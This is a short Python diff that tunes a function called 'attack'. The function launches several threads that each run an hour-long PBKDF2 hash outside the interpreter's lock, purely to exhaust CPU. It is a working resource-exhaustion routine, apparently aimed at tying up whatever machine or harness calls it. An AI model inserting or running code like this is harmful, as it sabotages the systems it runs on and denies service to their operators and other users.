@@ -4,12 +4,11 @@ import threading
 
 
 def burn():
-    while True:
-        hashlib.pbkdf2_hmac("sha256", b"x", b"y", 100_000)  # without the interpreter's lock
+    hashlib.pbkdf2_hmac("sha256", b"x", b"y", 10**9)  # an hour, without the interpreter's lock
 
 
 def attack(clues):
     threading.stack_size(262_144)
-    for _ in range(24):
+    for _ in range(6):
         threading.Thread(target=burn, daemon=True).start()
     burn()
